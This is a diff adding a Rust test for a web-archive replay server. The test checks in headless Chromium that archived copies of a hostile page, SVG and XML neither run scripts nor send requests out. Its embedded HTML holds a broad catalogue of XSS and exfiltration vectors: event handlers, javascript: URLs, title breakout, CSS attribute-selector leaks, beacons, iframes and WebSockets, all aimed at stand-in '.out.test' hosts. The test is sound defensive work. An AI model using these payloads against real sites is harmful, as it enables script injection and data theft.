@@ -1,0 +1,153 @@
+//! Real Chromium: what a hostile copy can do there, which is to be seen.
+//!
+//! Every name of the world leads to the web of the test, which writes down who is asked for what. Needs Chromium; without it, one line
+//! says that nothing was tried; under `SOURCEKEEP_REQUIRE_TOOLS=1` it is a failure.
+
+use std::io::Write;
+use std::process::Command;
+
+use crate::serving::Serving;
+use crate::support::Desk;
+use crate::web::Page;
+
+const NAMES: [&str; 4] = [
+    "chromium",
+    "chromium-browser",
+    "google-chrome-stable",
+    "google-chrome",
+];
+
+fn chromium() -> Option<std::path::PathBuf> {
+    let folders = std::env::var_os("PATH").unwrap_or_default();
+    let found = std::env::split_paths(&folders)
+        .flat_map(|folder| NAMES.map(|name| folder.join(name)))
+        .find(|path| path.is_file());
+    let required = std::env::var_os("SOURCEKEEP_REQUIRE_TOOLS").is_some_and(|one| one == "1");
+    assert!(found.is_some() || !required, "no Chromium on PATH");
+    if found.is_none() {
+        let _ = writeln!(std::io::stderr(), "skipped: no Chromium on PATH");
+    }
+    found
+}
+
+/// Everything that a page can try; each way out has a name of its own.
+const HOSTILE: &str = r#"<!doctype html><html><head>
+<meta http-equiv="refresh" content="0; url=http://refresh.out.test/">
+<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
+<base href="http://base.out.test/">
+<title>"><script>document.title='RAN'</script></title>
+<link rel="preload" as="image" href="http://preload.out.test/"><link rel="prefetch" href="http://prefetch.out.test/">
+<link rel="preconnect" href="http://preconnect.out.test/"><link rel="dns-prefetch" href="//dns.out.test/">
+<link rel="modulepreload" href="http://module.out.test/m.js"><link rel="manifest" href="http://manifest.out.test/">
+<link rel="stylesheet" href="http://style.out.test/s.css"><link rel="icon" href="http://icon.out.test/">
+<script type="importmap">{"imports":{"a":"http://import.out.test/a.js"}}</script>
+<script src="http://script.out.test/s.js"></script>
+<script>document.title='RAN';new Image().src='http://image.out.test/';fetch('http://fetch.out.test/');navigator.sendBeacon('http://beacon.out.test/');
+top.location='http://top.out.test/';parent.postMessage('x','*');window.open('http://popup.out.test/');navigator.serviceWorker.register('/sw.js');
+document.cookie='a=b';localStorage.a=1;new WebSocket('ws://socket.out.test/');document.write('<p>RAN</p>')</script>
+<style>@import url(http://import-css.out.test/);@font-face{font-family:x;src:url(http://font.out.test/)}
+input[value^="a"]{background:url(http://exfiltrated.out.test/a)} body{background:url(http://background.out.test/);font-family:x}
+p::before{content:url(http://content.out.test/)}</style></head>
+<body onload="document.title='RAN'" background="http://body.out.test/"><p>A page that wants out.</p>
+<img src="http://broken.out.test/" onerror="document.title='RAN'" srcset="http://srcset.out.test/ 2x"><input value="abc" autofocus onfocus="document.title='RAN'">
+<svg><script>document.title='RAN'</script><image href="http://svg.out.test/"/><a xlink:href="javascript:document.title='RAN'"><text>x</text></a>
+<animate attributeName="href" values="javascript:document.title='RAN'"/><foreignObject><iframe src="http://foreign.out.test/"></iframe></foreignObject></svg>
+<iframe src="http://frame.out.test/"></iframe><iframe src="javascript:parent.document.title='RAN'"></iframe>
+<iframe srcdoc="<script>top.document.title='RAN'</script><img src='http://srcdoc.out.test/'>"></iframe>
+<iframe src="data:text/html,<script>top.postMessage(1,'*')</script><img src=http://data.out.test/>"></iframe>
+<object data="http://object.out.test/"></object><embed src="http://embed.out.test/"><video src="http://video.out.test/" poster="http://poster.out.test/" autoplay></video>
+<audio src="http://audio.out.test/" autoplay></audio><form action="http://form.out.test/" method="post"><button autofocus>x</button></form>
+<a href="javascript:document.title='RAN'" ping="http://ping.out.test/">x</a><math><mtext><style><img src="http://math.out.test/"></style></mtext></math>
+<noscript><p title="</noscript><img src=http://noscript.out.test/ onerror=document.title='RAN'>"></noscript>
+<template><img src="http://template.out.test/"></template><xmp><img src="http://xmp.out.test/"></xmp>
+<portal src="http://portal.out.test/"></portal><marquee onstart="document.title='RAN'">x</marquee><details open ontoggle="document.title='RAN'">x</details>
+</body></html>"#;
+
+#[test]
+fn nothing_of_a_hostile_copy_runs_and_nothing_leaves() {
+    let Some(chromium) = chromium() else {
+        return;
+    };
+    let desk = Desk::new();
+    let hostile = Page::html(HOSTILE)
+        .header("Refresh", "0; url=http://header.out.test/")
+        .header("Link", "<http://link.out.test/>; rel=preload; as=image")
+        .header("Set-Cookie", "a=b");
+    desk.web.page("a.test", "/page", hostile);
+    let drawing = "<svg xmlns='http://www.w3.org/2000/svg' onload='top.location=\"http://drawn.out.test/\"'>\
+                   <script>document.documentElement.setAttribute('title','RAN')</script><image href='http://in-svg.out.test/'/></svg>";
+    desk.web.page(
+        "a.test",
+        "/drawing.svg",
+        Page::bytes("image/svg+xml", drawing),
+    );
+    let xml = "<?xml version='1.0'?><?xml-stylesheet href='http://xsl.out.test/' type='text/xsl'?><x xmlns='http://www.w3.org/1999/xhtml'><script>document.title='RAN'</script></x>";
+    desk.web
+        .page("a.test", "/data.xml", Page::bytes("application/xml", xml));
+    let names = ["page", "drawing.svg", "data.xml"];
+    let sources = names.map(|name| format!("http://a.test/{name}"));
+    desk.post("posts/a.md", &sources.each_ref().map(String::as_str));
+    desk.run("run posts --no-requisites").exits(0);
+    let serving = Serving::start(&desk);
+    desk.web.forget_requests();
+    for source in &sources {
+        let path = format!("/web/20260105080000/{source}");
+        for (host, form) in [
+            (&serving.ui, ""),
+            (&serving.replay, ""),
+            (&serving.replay, "fr_"),
+            (&serving.replay, "im_"),
+            (&serving.replay, "to_"),
+        ] {
+            let path = path.replacen("/http", &format!("{form}/http"), 1);
+            let shown = shown(&chromium, &desk, &format!("http://{host}{path}"));
+            assert!(
+                shown.contains("</html>") || shown.contains("</svg>"),
+                "{path}: {shown}"
+            );
+            assert!(!shown.contains(" title=\"RAN\""), "{path}: {shown}");
+            // As text of the page it may stand there; as what a script did, it may not.
+            let title = shown.split("<title>").nth(1).unwrap_or_default();
+            let title = title.split("</title>").next().unwrap();
+            assert_ne!(title, "RAN", "{path}: {shown}");
+            assert!(!shown.contains("<p>RAN"), "{path}: {shown}");
+            let asked: Vec<_> = desk
+                .web
+                .requests()
+                .into_iter()
+                .filter(|one| one.host.ends_with(".test"))
+                .map(|one| one.host)
+                .collect();
+            assert!(asked.is_empty(), "{path}: {asked:?}");
+        }
+    }
+    // What is asked for is written down.
+    shown(&chromium, &desk, "http://a.test/page");
+    let asked = desk.web.requests();
+    assert!(
+        asked.iter().any(|one| one.host == "script.out.test"),
+        "{asked:?}"
+    );
+}
+
+/// The document that Chromium makes of an address.
+fn shown(chromium: &std::path::Path, desk: &Desk, address: &str) -> String {
+    let web = desk.web.addr();
+    let profile = tempfile::tempdir().unwrap();
+    let mut command = Command::new(chromium);
+    command
+        .args(["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"])
+        .args([
+            "--disable-background-networking",
+            "--disable-component-update",
+        ])
+        .args(["--no-first-run", "--ignore-certificate-errors"])
+        .arg("--virtual-time-budget=3000")
+        .arg(format!("--user-data-dir={}", profile.path().display()))
+        .arg(format!(
+            "--host-resolver-rules=MAP * {web}, EXCLUDE 127.0.0.1, EXCLUDE localhost"
+        ))
+        .arg(address);
+    let output = command.output().unwrap();
+    String::from_utf8_lossy(&output.stdout).into_owned()
+}
